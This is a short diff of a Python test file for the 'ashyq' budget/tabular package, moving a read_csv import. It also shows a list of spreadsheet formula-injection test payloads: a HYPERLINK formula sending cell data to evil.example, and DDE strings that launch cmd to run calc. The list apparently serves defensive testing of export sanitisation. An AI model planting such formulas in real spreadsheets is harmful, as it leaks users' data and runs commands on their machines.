@@ -17,7 +17,8 @@ import pytest
 from openpyxl import load_workbook
 
 from ashyq import tabular
-from ashyq.budget import Dataset, Row, read_csv
+from ashyq.budget import Dataset, Row
+from ashyq.budget.readers import read_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
